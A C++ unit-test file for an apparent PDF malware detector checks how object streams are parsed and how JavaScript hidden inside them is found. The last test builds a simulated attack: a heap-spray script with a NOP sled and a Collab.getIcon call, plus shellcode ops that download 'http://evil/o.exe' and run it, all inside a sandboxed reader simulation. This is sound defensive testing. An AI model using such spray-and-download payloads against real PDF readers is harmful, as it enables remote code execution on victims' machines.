@@ -1,0 +1,146 @@
+// Tests for object-stream (/ObjStm) handling: the parser must open
+// compressed object containers — a standard PDF-1.5 feature malicious
+// documents abuse to hide Javascript from shallow scanners — and the full
+// pipeline must detect attacks hidden this way.
+#include <gtest/gtest.h>
+
+#include "core/detector.hpp"
+#include "core/jschain.hpp"
+#include "core/pipeline.hpp"
+#include "corpus/builders.hpp"
+#include "pdf/filters.hpp"
+#include "pdf/parser.hpp"
+#include "pdf/writer.hpp"
+#include "reader/reader_sim.hpp"
+#include "reader/shellcode.hpp"
+#include "sys/kernel.hpp"
+
+namespace co = pdfshield::core;
+namespace cp = pdfshield::corpus;
+namespace pd = pdfshield::pdf;
+namespace rd = pdfshield::reader;
+namespace sy = pdfshield::sys;
+namespace sp = pdfshield::support;
+
+namespace {
+
+// Hand-built document with two objects packed in an ObjStm.
+sp::Bytes handmade_objstm_pdf() {
+  pd::Document doc;
+  const std::string inner1 = "<< /Type /Catalog /OpenAction 11 0 R >>";
+  const std::string inner2 =
+      "<< /S /JavaScript /JS (var hidden_marker = 42;) >>";
+  std::string payload = "10 0 11 " + std::to_string(inner1.size() + 1) + "\n";
+  const std::size_t first = payload.size();
+  payload += inner1 + " " + inner2;
+
+  pd::EncodedStream enc =
+      pd::encode_stream(sp::to_bytes(payload), {"FlateDecode"});
+  pd::Stream objstm;
+  objstm.dict.set("Type", pd::Object::name("ObjStm"));
+  objstm.dict.set("N", pd::Object(2));
+  objstm.dict.set("First", pd::Object(static_cast<std::int64_t>(first)));
+  objstm.dict.set("Filter", enc.filter);
+  objstm.data = enc.data;
+  objstm.dict.set("Length",
+                  pd::Object(static_cast<std::int64_t>(objstm.data.size())));
+  doc.set_object({1, 0}, pd::Object(objstm));
+  doc.trailer().set("Root", pd::Object(pd::Ref{10, 0}));
+  return pd::write_document(doc);
+}
+
+}  // namespace
+
+TEST(ObjStm, ParserExpandsPackedObjects) {
+  pd::ParseStats stats;
+  pd::Document doc = pd::parse_document(handmade_objstm_pdf(), &stats);
+  // 1 container + 2 packed objects.
+  EXPECT_EQ(stats.indirect_objects, 3u);
+  const pd::Object* catalog = doc.object({10, 0});
+  ASSERT_NE(catalog, nullptr);
+  EXPECT_EQ(catalog->as_dict().at("Type").as_name().value, "Catalog");
+  const pd::Object* action = doc.object({11, 0});
+  ASSERT_NE(action, nullptr);
+  EXPECT_TRUE(action->as_dict().contains("JS"));
+}
+
+TEST(ObjStm, JsChainsReachIntoObjectStreams) {
+  pd::Document doc = pd::parse_document(handmade_objstm_pdf());
+  const co::JsChainAnalysis chains = co::analyze_js_chains(doc);
+  ASSERT_EQ(chains.sites.size(), 1u);
+  EXPECT_EQ(chains.sites[0].source, "var hidden_marker = 42;");
+  EXPECT_TRUE(chains.sites[0].triggered);
+}
+
+TEST(ObjStm, ExistingObjectsAreNotOverwritten) {
+  // A plain definition of object 11 must win over the packed copy.
+  std::string text = sp::to_string(handmade_objstm_pdf());
+  text += "11 0 obj\n<< /S /JavaScript /JS (var plain_wins = 1;) >>\nendobj\n";
+  pd::Document doc = pd::parse_document(sp::to_bytes(text));
+  const co::JsChainAnalysis chains = co::analyze_js_chains(doc);
+  ASSERT_EQ(chains.sites.size(), 1u);
+  EXPECT_EQ(chains.sites[0].source, "var plain_wins = 1;");
+}
+
+TEST(ObjStm, CorruptContainerIsSkippedGracefully) {
+  sp::Bytes file = handmade_objstm_pdf();
+  // Corrupt the Flate payload (but keep the file parseable).
+  for (std::size_t i = file.size() / 2; i < file.size() / 2 + 8; ++i) {
+    file[i] ^= 0x55;
+  }
+  EXPECT_NO_THROW({
+    try {
+      pd::parse_document(file);
+    } catch (const sp::ParseError&) {
+      // acceptable: no objects at all left
+    }
+  });
+}
+
+TEST(ObjStm, BuilderPacksOpenActionAndReaderStillRuns) {
+  sp::Rng rng(1);
+  cp::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js("var ran_from_objstm = 1;");
+  builder.pack_js_into_object_stream();
+  const sp::Bytes file = builder.build();
+
+  // The raw file no longer shows the action in plain sight.
+  EXPECT_EQ(sp::to_string(file).find("ran_from_objstm"), std::string::npos);
+
+  sy::Kernel kernel;
+  rd::ReaderSim reader(kernel);
+  auto r = reader.open_document(file, "packed.pdf");
+  EXPECT_TRUE(r.parsed);
+  EXPECT_TRUE(r.js_ran);
+}
+
+TEST(ObjStm, HiddenAttackDetectedEndToEnd) {
+  sy::Kernel kernel;
+  sp::Rng rng(2);
+  co::RuntimeDetector detector(kernel, rng);
+  co::FrontEnd frontend(rng, detector.detector_id());
+  rd::ReaderSim reader(kernel);
+  detector.attach(reader);
+
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil/o.exe", "c:/o.exe"}});
+  prog.ops.push_back({"EXEC", {"c:/o.exe"}});
+  cp::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js(
+      "var unit = unescape('%u9090%u9090') + '" +
+      rd::encode_shellcode(prog) + "';"
+      "var spray = unit; while (spray.length < 2097152) spray += spray;"
+      "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
+  builder.pack_js_into_object_stream();
+
+  co::FrontEndResult fe = frontend.process(builder.build());
+  ASSERT_TRUE(fe.ok);
+  ASSERT_EQ(fe.record.entries.size(), 1u)
+      << "instrumenter must reach into the object stream";
+  detector.register_document(fe.record.key, "objstm.pdf", fe.features);
+  reader.open_document(fe.output, "objstm.pdf");
+  EXPECT_TRUE(detector.verdict(fe.record.key).malicious);
+  EXPECT_TRUE(kernel.fs().exists("quarantine://c:/o.exe"));
+}
